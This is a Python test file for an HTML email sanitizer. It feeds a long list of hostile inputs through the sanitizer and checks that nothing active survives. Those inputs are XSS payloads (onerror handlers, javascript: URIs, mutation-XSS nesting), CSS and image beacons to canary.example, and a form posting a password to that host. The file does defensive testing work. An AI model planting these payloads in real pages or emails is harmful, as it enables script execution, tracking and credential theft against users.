"""Attack 41: what letters have been made of to run, load, send, hide or cover something. None of it is left."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qiao.platform.uploads.originals import clean_original

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext></form><form><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><td><svg><desc><table><style><!--</style><img src=x onerror=alert(1)>-->",
    "<listing>&lt;img onerror=alert(1) src=x></listing>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<template><img src=x onerror=alert(1)></template>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' JaVa\tScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//canary.example'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='cid:x'>x</a>",
    "<a ping='https://canary.example' href='https://a.example'>x</a>",
    "<a href='https://a.example' target=_self rel=opener>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='//canary.example/x'>",
    "<img src='https://a.example/1.png' srcset='https://canary.example/2.png 2x'>",
    "<img src='https://a.example/1.png' lowsrc='https://canary.example' dynsrc='https://canary.example' longdesc='https://canary.example'>",
    "<picture><source srcset='https://canary.example/x'><img></picture>",
    "<input type=image src='https://canary.example/x'>",
    "<video src='https://canary.example/x' poster='https://canary.example/y' autoplay></video>",
    "<audio src='https://canary.example/x' autoplay></audio>",
    "<iframe src='https://canary.example'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://canary.example'></object><embed src='https://canary.example'>",
    "<link rel=stylesheet href='https://canary.example/x.css'><link rel=prefetch href='https://canary.example'>",
    "<link rel=dns-prefetch href='//canary.example'>",
    "<style>@import 'https://canary.example';p{background:url(https://canary.example)}</style>",
    "<style>@font-face{font-family:x;src:url(https://canary.example)}</style>",
    "<p style=\"background:url('https://canary.example')\">x</p>",
    "<p style='background-image:url(https://canary.example)'>x</p>",
    "<p style='background:\\75rl(https://canary.example)'>x</p>",
    "<p style='background/**/:u/**/rl(https://canary.example)'>x</p>",
    "<p style='list-style:url(https://canary.example)'>x</p>",
    "<p style='list-style-type:url(https://canary.example)'>x</p>",
    "<p style='color:image-set(\"https://canary.example\" 1x)'>x</p>",
    "<p style='border-image:url(https://canary.example)'>x</p>",
    "<p style='cursor:url(https://canary.example),auto'>x</p>",
    "<p style='font:1px url(https://canary.example)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='behavior:url(#x);-moz-binding:url(https://canary.example)'>x</p>",
    "<td background='https://canary.example'>x</td><body background='https://canary.example'>",
    "<div style='position:fixed;inset:0;z-index:9'>x</div>",
    "<div style='position:absolute;top:0;transform:scale(99)'>x</div>",
    "<div style='animation:x 1s;transition:all'>x</div>",
    "<form action='https://canary.example'><input name=password><button>x</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<meta http-equiv=refresh content='0;url=https://canary.example'>",
    "<meta http-equiv=set-cookie content='qiao_session=x'>",
    "<base href='https://canary.example/'><a href='x'>x</a><img src='y'>",
    "<html manifest='https://canary.example'><body onload=alert(1)>",
    "<amp-img src='https://canary.example/x'></amp-img><amp-script script=x>",
    "<p id=top class=modal name=x accesskey=a tabindex=1 contenteditable draggable autofocus onfocus=alert(1)>x</p>",
    "<p xmlns:v='urn:x'><v:imagedata src='https://canary.example'/></p>",
    "<!--[if gte mso 9]><img src='https://canary.example/mso'><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--x--!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='https://canary.example'?>",
    "<marquee onstart=alert(1)>x</marquee><isindex action=javascript:alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<dialog open><p>x</dialog><p popover>x",
    "<slot name=x></slot><portal src='https://canary.example'></portal>",
    "</p><!doctype html><html><script src='https://canary.example'></script>",
]
WORDS = """
a abbr address article b bdi bdo big blockquote br caption center cite code col colgroup dd del div dl dt em font footer h1 h2 h3 h4 h5 h6
header hr i img ins kbd li main mark ol p pre q s samp section small span strike strong sub sup table tbody td tfoot th thead tr tt u ul var
wbr
"""
TAGS = set(WORDS.split())
MARKS = """
align alt bgcolor border cellpadding cellspacing color colspan dir face height href lang nowrap referrerpolicy rel rowspan size src start
style target title type valign width
"""
ATTRIBUTES = set(MARKS.split())
REL = {"noopener", "noreferrer", "nofollow"}


class Read(HTMLParser):
    """Everything that a page is made of."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.tags, self.pairs = [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.pairs += [(tag, name, value or "") for name, value in attrs]

    def of(self, name):
        return [value for _, attribute, value in self.pairs if attribute == name]


def none(_):
    return None


def same(place):
    return place


def is_harmless(page):
    """Only known marks; links that lead out in windows of their own; nothing that loads."""
    read = Read(page)
    assert set(read.tags) <= TAGS
    assert {name for _, name, _ in read.pairs} <= ATTRIBUTES
    assert all(re.match(r"\s*(https?://|mailto:|tel:)", one, re.IGNORECASE) for one in read.of("href"))
    assert all(set(one.split()) == REL for one in read.of("rel"))
    assert set(read.of("target")) <= {"_blank"}
    assert read.tags.count("a") == len(read.of("rel")) == len(read.of("target"))
    assert not re.search(
        r"url|position|expression|import|\\|@|image|behavior|transform|anim", ";".join(read.of("style")), re.IGNORECASE
    )
    return read


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_that_acts_is_left(html):
    read = is_harmless(clean_original(f"<p>前</p>{html}", none))
    assert read.of("src") == []


@pytest.mark.parametrize("html", HOSTILE)
def test_not_even_together_with_what_stands_around_it(html):
    around = f"<table><tr><td><b>{html}</b></td></tr></table><div title='{html}'>{html}"
    is_harmless(clean_original(around, none))


@pytest.mark.property
@given(st.lists(st.sampled_from(HOSTILE), min_size=2, max_size=4), st.integers(0, 60), st.integers(0, 60))
def test_nor_in_pieces(parts, start, end):
    is_harmless(clean_original("".join(one[start : len(one) - end] for one in parts), none))


def test_pictures_are_what_the_caller_makes_of_them():
    asked = []

    def picture(place):
        asked.append(place)
        return "data:image/png;base64,AAAA" if place.startswith("cid:") else None

    written = "<img src='cid:a@b'><img src='https://x.example/1.gif'><img src='HTTP://x.example/2'><img src='x.png'>"
    written += "<img src='data:image/gif,x'>"
    read = Read(clean_original(written, picture))
    assert asked == ["cid:a@b", "https://x.example/1.gif", "HTTP://x.example/2"]
    assert read.of("src") == ["data:image/png;base64,AAAA"]
    assert read.tags.count("img") == 5
    assert set(read.of("referrerpolicy")) == {"no-referrer"}


def test_what_makes_a_letter_look_as_it_does_stays():
    written = (
        '<table width="600" cellpadding="0" bgcolor="#eeeeee" align="center"><tr><td colspan="2" style="padding:12px 0;'
        "border:1px solid rgb(200, 10, 10);font-family:'微软雅黑',Arial;font-size:14px;color:#333!important\">"
        '<h2>订单</h2><ul><li>壶</li></ul><font color="red" size="2">缺货</font></td></tr></table>'
    )
    page = clean_original(written, same)
    read = Read(page)
    assert read.tags == ["table", "tbody", "tr", "td", "h2", "ul", "li", "font"]
    assert {"600", "#eeeeee", "center", "2", "red"} <= {value for _, _, value in read.pairs}
    (style,) = read.of("style")
    assert style.split(";") == [
        "padding:12px 0",
        "border:1px solid rgb(200, 10, 10)",
        "font-family:'微软雅黑',Arial",
        "font-size:14px",
        "color:#333!important",
    ]


def test_links_lead_where_they_led():
    read = Read(
        clean_original(
            "<a href='https://x.example/?a=1&amp;b=2'>一</a><a href='mailto:a@b.example'>二</a><a href='tel:1'>三</a>", none
        )
    )
    assert read.of("href") == ["https://x.example/?a=1&b=2", "mailto:a@b.example", "tel:1"]


@pytest.mark.parametrize("html", HOSTILE)
def test_what_is_clean_stays_as_it_is(html):
    once = Read(clean_original(html, same))
    again = Read(clean_original(clean_original(html, same), same))
    assert again.tags == once.tags
    assert sorted(again.pairs) == sorted(once.pairs)
